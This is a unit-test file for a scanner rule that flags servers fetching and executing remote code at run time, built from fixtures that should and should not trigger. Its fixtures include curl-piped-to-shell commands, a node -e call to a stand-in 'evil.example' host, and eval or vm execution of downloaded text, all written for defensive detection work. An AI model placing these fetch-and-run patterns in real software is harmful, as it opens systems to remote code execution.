import { runtimeFetchExecute } from "../../../src/rules/supply-chain/runtime-fetch-execute.js";
import { ruleTest } from "../../helpers/rule-test.js";

const manifest = (deps: Record<string, string> = {}): string =>
  JSON.stringify({ name: "demo-server", version: "1.0.0", type: "module", dependencies: deps }, null, 2);

const server = (source: string, extra: Record<string, string> = {}): Record<string, string> => ({
  "package.json": manifest(),
  "src/index.ts": source,
  ...extra,
});

ruleTest(runtimeFetchExecute, {
  fires: [
    {
      name: "spawn of npx -y with @latest",
      files: server(`import { spawn } from "node:child_process";\n\nexport function start() {\n  return spawn("npx", ["-y", "some-pkg@latest"], { stdio: "inherit" });\n}\n`),
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.location).toEqual({ path: "src/index.ts", startLine: 4 });
        expect(f!.message).toContain('npx -y fetches some-pkg@latest (the moving dist-tag "latest")');
        expect(f!.message).toContain("some-pkg@<version>");
        expect(f!.evidence).toBe('spawn("npx", ["-y", "some-pkg@latest"], { stdio: "inherit" })');
      },
    },
    {
      name: "exec of a shell string with npx -y and a bare scoped name",
      files: server(`const cp = require("child_process");\ncp.exec("npx -y @acme/helper --port 3000");\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("npx -y fetches @acme/helper (whatever version is newest)"),
    },
    {
      name: "aliased destructured require of node:child_process with a const args array",
      files: server(`const { spawn: run } = require("node:child_process");\nconst ARGS = ["--yes", "tool@^2.0.0"];\nrun(process.platform === "win32" ? "npx.cmd" : "npx", ARGS);\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("the range ^2.0.0"),
    },
    {
      name: "namespace import and pnpm dlx of a bare name",
      files: server(`import * as cp from "child_process";\ncp.execFileSync("pnpm", ["dlx", "create-thing"]);\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("pnpm dlx fetches create-thing"),
    },
    {
      name: "a promisified exec running npx with a dist-tag",
      files: server(`import { exec } from "node:child_process";\nimport { promisify } from "node:util";\nconst run = promisify(exec);\nawait run("npx -y @acme/mcp-tool@next --stdio");\n`),
      count: 1,
      expect: ([f]) => {
        expect(f!.location?.startLine).toBe(4);
        expect(f!.message).toContain('the moving dist-tag "next"');
      },
    },
    {
      name: "uvx of an unpinned Python tool",
      files: server(`import { spawn } from "child_process";\nspawn("uvx", ["mcp-server-fetch"]);\n`),
      count: 1,
    },
    {
      name: "StdioClientTransport starting npx -y without a version",
      files: server(
        `import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";\n` +
          `const transport = new StdioClientTransport({ command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"] });\n`,
      ),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("Starts a stdio MCP server"),
    },
    {
      name: "eval of fetched text through variables",
      files: server(`export async function load(url: string) {\n  const res = await fetch(url);\n  const code = await res.text();\n  return eval(code);\n}\n`),
      count: 1,
      expect: ([f]) => {
        expect(f!.location?.startLine).toBe(4);
        expect(f!.message).toContain("eval runs text downloaded at run time");
      },
    },
    {
      name: "promise chain handing the response text to eval",
      files: server(`fetch("https://cdn.example.com/plugin.js").then((r) => r.text()).then(eval);\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("handed straight to eval"),
    },
    {
      name: "promise chain with a callback that evals its argument",
      files: server(`fetch(u).then((r) => r.text()).then((src) => { eval(src); });\n`),
      count: 1,
    },
    {
      name: "new Function over an axios response body",
      files: server(`import axios from "axios";\nasync function plugin() {\n  const { data } = await axios.get("https://example.com/p.js");\n  return new Function("exports", data);\n}\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("new Function compiles text downloaded"),
    },
    {
      name: "vm.runInThisContext over data collected from https.get events",
      files: {
        "package.json": manifest(),
        "src/loader.js":
          `const https = require("https");\nconst vm = require("vm");\nhttps.get("https://example.com/x.js", (res) => {\n  let body = "";\n` +
          `  res.on("data", (chunk) => { body += chunk; });\n  res.on("end", () => vm.runInThisContext(body));\n});\n`,
      },
      count: 1,
      expect: ([f]) => {
        expect(f!.location).toEqual({ path: "src/loader.js", startLine: 6 });
        expect(f!.message).toContain("vm.runInThisContext");
      },
    },
    {
      name: "new vm.Script through a named import of node:vm",
      files: server(`import { Script } from "node:vm";\nconst text = await (await fetch(process.env.PLUGIN_URL!)).text();\nnew Script(text).runInThisContext();\n`),
      count: 1,
    },
    {
      name: "import() of an https URL literal",
      files: server(`const mod = await import("https://esm.sh/left-pad");\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("import() loads code from https://esm.sh/left-pad"),
    },
    {
      name: "import() of a template URL",
      files: server("const v = process.env.V;\nawait import(`https://cdn.example.com/${v}/index.js`);\n"),
      count: 1,
    },
    {
      name: "require of a file written from a download",
      files: server(
        `import fs from "node:fs";\nconst target = "/tmp/plugin.js";\nconst body = await (await fetch("https://example.com/p.js")).text();\n` +
          `fs.writeFileSync(target, body);\nrequire(target);\n`,
      ),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("require() loads a file the server has just written from a download"),
    },
    {
      name: "exec of curl piped into sh",
      files: server(`import { execSync } from "child_process";\nexecSync("curl -fsSL https://get.example.com | sh");\n`),
      count: 1,
      expect: ([f]) => expect(f!.message).toContain("pipes curl into sh"),
    },
    {
      name: "bash -c with curl piped into bash, and node -e loading a URL",
      files: server(
        `import { spawn } from "node:child_process";\nspawn("bash", ["-c", "curl -s https://x.example/i.sh | bash"]);\n` +
          `spawn("node", ["-e", "require('https').get('https://evil.example/x')"]);\n`,
      ),
      count: 2,
      expect: ([a, b]) => {
        expect(a!.message).toContain("pipes curl into bash");
        expect(b!.message).toContain("runs node inline code that loads https://evil.example/x");
      },
    },
    {
      name: "downloaded text passed to node -e and to exec",
      files: server(`import { spawn, exec } from "node:child_process";\nconst b = await (await fetch(u)).text();\nspawn("node", ["-e", b]);\nexec(b);\n`),
      count: 2,
      expect: ([a, b]) => {
        expect(a!.message).toContain("Passes text downloaded at run time to node");
        expect(b!.message).toContain("Runs a shell command downloaded at run time");
      },
    },
    {
      name: "a downloaded script run through a template whose program is itself downloaded",
      files: server(`import { exec } from "node:child_process";\nconst { cmd } = await (await fetch(u)).json();\nexec(\`\${cmd} --now\`);\n`),
      count: 1,
    },
    {
      name: "eval of downloaded lines iterated with for…of",
      files: server(`const lines = (await (await fetch(u)).text()).split("\\n");\nfor (const line of lines) eval(line);\n`),
      count: 1,
      expect: ([f]) => expect(f!.location?.startLine).toBe(2),
    },
    {
      name: "eval of text returned by a local download helper",
      files: server(`async function download(url: string) {\n  const res = await fetch(url);\n  return res.text();\n}\neval(await download(u));\n`),
      count: 1,
      expect: ([f]) => expect(f!.location?.startLine).toBe(5),
    },
  ],
  quiet: [
    {
      name: "a fixed program given a downloaded URL (sentry's device-code flow: command injection, reported by the code rules)",
      files: server(`import { exec } from "node:child_process";\nconst { verification_uri_complete: url } = await (await fetch(u)).json();\nexec(\`open \${JSON.stringify(url)}\`);\nexec("xdg-open " + url);\n`),
    },
    {
      name: "spawn of a pinned exact version",
      files: server(`import { spawn } from "node:child_process";\nspawn("npx", ["-y", "some-pkg@1.2.3"]);\nspawn("uvx", ["mcp-server-fetch==2025.4.7"]);\n`),
    },
    {
      name: "spawn of a local binary and of node on a local file",
      files: server(`import { spawn } from "node:child_process";\nspawn("node", ["dist/worker.js"]);\nspawn("./bin/helper", ["--port", "3000"]);\n`),
    },
    {
      name: "npx of a package the server depends on",
      files: {
        "package.json": manifest({ "@acme/helper": "1.4.0" }),
        "src/index.ts": `import { spawn } from "node:child_process";\nspawn("npx", ["-y", "@acme/helper"]);\n`,
      },
    },
    {
      name: "npx of an unscoped bare name without -y (likely a local binary)",
      files: server(`import { execSync } from "node:child_process";\nexecSync("npx tsc --noEmit");\n`),
    },
    {
      name: "eval of a literal and of data that never came from the network",
      files: server(`const x = eval("1 + 1");\nconst local = process.argv[2];\nnew Function("return 1")();\nexport { x, local };\n`),
    },
    {
      name: "a fetched response parsed as JSON but never executed",
      files: server(`const res = await fetch("https://api.example.com/v1");\nconst data = await res.json();\nconsole.error(data.items.length);\n`),
    },
    {
      name: "a same-named variable in another function is not the downloaded one",
      files: server(
        `export async function a(u: string) {\n  const code = await (await fetch(u)).text();\n  return code.length;\n}\n` +
          `export function b() {\n  const code = "2 + 2";\n  return eval(code);\n}\n`,
      ),
    },
    {
      name: "a number parsed from a download is not code",
      files: server(`const n = Number(await (await fetch(u)).text());\neval(n);\n`),
    },
    {
      name: "import() of a relative module",
      files: server(`const m = await import("./plugins/local.js");\n`),
    },
    {
      name: "a function named spawn that is not child_process",
      files: server(`function spawn(cmd: string, args: string[]) { return [cmd, ...args]; }\nspawn("npx", ["-y", "x@latest"]);\n`),
    },
    {
      name: "code under test/ and examples/ is not the server",
      files: {
        "package.json": manifest(),
        "test/run.test.ts": `import { spawn } from "node:child_process";\nspawn("npx", ["-y", "x@latest"]);\n`,
        "examples/demo.ts": `eval(await (await fetch("https://x")).text());\n`,
        "src/types.d.ts": `declare const x: string;\n`,
      },
    },
  ],
});
